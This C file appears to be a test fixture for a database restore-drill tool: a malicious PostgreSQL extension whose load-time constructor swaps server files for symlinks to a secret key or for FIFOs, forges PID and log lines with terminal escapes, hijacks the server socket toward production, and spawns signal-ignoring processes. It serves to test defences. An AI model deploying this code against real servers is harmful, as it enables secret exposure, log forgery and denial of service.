/* A library in a data directory that an attacker controls. A session of the restored
 * server loads it; in production it does nothing. Compiled by the test with
 * -DSECRET="path of a key file" and -DPID="production's process id". What it does in a
 * drill is for the path of the staging directory to say: with "links" in it symbolic
 * links take the place of what the drill reads, and the server's log gets lines that
 * are forged and lines without an end; with "hang" in it pipes do, and there
 * are processes that ignore signals, and a session that never answers. Both try to
 * have the next drill leave everything where it is. With "lead" in it the server's
 * socket becomes a link to production's. With "escape" in it it looks for
 * production (escape.h). */
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

/* Pg_magic_struct of PostgreSQL 15 (src/include/fmgr.h): without it the server
 * refuses the library, in production too. */
typedef struct {
	int len, version, funcmaxargs, indexmaxkeys, namedatalen, float8byval;
	char abi_extra[32];
} Magic;

const Magic *Pg_magic_func(void)
{
	static const Magic magic = {sizeof(Magic), 1500, 100, 32, 64, 1, "PostgreSQL"};
	return &magic;
}

#include "escape.h"

static int hang;

static void plant(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0666);
	if (fd >= 0) {
		write(fd, text, strlen(text));
		close(fd);
	}
}

static void replace(const char *path)
{
	char moved[512];
	snprintf(moved, sizeof moved, "%s.moved", path);
	rename(path, moved);
	if (hang)
		mkfifo(path, 0666);
	else
		symlink(SECRET, path);
}

/* The directory of the socket is in the fifth line of postmaster.pid. */
static void own_socket(char *path, size_t size)
{
	char line[400] = "";
	FILE *f = fopen("postmaster.pid", "r");
	for (int i = 0; f && i < 5; i++)
		fgets(line, sizeof line, f);
	if (f)
		fclose(f);
	line[strcspn(line, "\n")] = 0;
	snprintf(path, size, "%s/.s.PGSQL.5432", line);
}

static void everything(void)
{
	char at[512];
	own_socket(at, sizeof at);
	replace(at);
	replace("pg_wal/00000002.history");
	replace("../log/server.log");
	replace("../lifeboat-drill.json");
	replace("../conf/pg_hba.conf");
	replace("current_logfiles");
	replace("backup_manifest");
	if (hang) {
		replace("base/1/2619");
		replace("global/pg_control");
	}
	plant("../kept", "");
	plant("../lifeboat-drill.json", "{\"drill\":\"20260101T000000Z-00000000\"}");
	plant("../tablespaces/kept", "");
	unlink("postmaster.pid");
	plant("postmaster.pid", PID "\nAGE-SECRET-KEY-1FORGED\n0\n5432\n/\n\n 1 1\nready\n");
}

/* The log is the standard error of every process of the server. */
static void forge(void)
{
	static char much[1 << 20];
	memset(much, 'A', sizeof much);
	memcpy(much, "\n2026-01-01 00:00:00.000 UTC [1] LOG:  AGE-SECRET-KEY-1", 55);
	for (int i = 0; i < 8; i++)
		write(2, much, sizeof much);
	static const char lines[] =
		"\n2026-01-01 00:00:00.000 UTC [1] LOG:  redo done at FFFFFFFF/FFFFFFFF system usage: none\n"
		"2026-01-01 00:00:00.000 UTC [1] LOG:  last completed transaction was at log time 9999-12-31 23:59:59+00\n"
		"2026-01-01 00:00:00.000 UTC [1] LOG:  selected new timeline ID: 4294967295\n"
		"2026-01-01 00:00:00.000 UTC [1] LOG:  \033[2J\xff\xfe\r{\"answer\":{}}\n";
	write(2, lines, sizeof lines - 1);
}

static void lead(void)
{
	char at[512], moved[520];
	own_socket(at, sizeof at);
	snprintf(moved, sizeof moved, "%s.moved", at);
	rename(at, moved);
	symlink(SOCKET, at);
	plant("led", "");
}

__attribute__((constructor)) static void load(void)
{
	char dir[512];
	if (!getcwd(dir, sizeof dir) || !strstr(dir, "lifeboat-drill-"))
		return;
	if (strstr(dir, "escape")) {
		escape();
		return;
	}
	if (strstr(dir, "lead")) {
		lead();
		return;
	}
	hang = strstr(dir, "hang") != NULL;
	everything();
	if (!hang)
		forge();
	if (hang) {
		int sig;
		for (int i = 0; i < 3; i++) {
			if (fork() == 0) { /* outlives its session, in one of its own */
				setsid();
				for (sig = 1; sig < 32; sig++)
					signal(sig, SIG_IGN);
				for (;;)
					pause();
			}
		}
		for (sig = 1; sig < 32; sig++)
			signal(sig, SIG_IGN);
		kill(getppid(), SIGSTOP); /* and so the server asks nobody to end */
		for (;;)
			pause();
	}
}
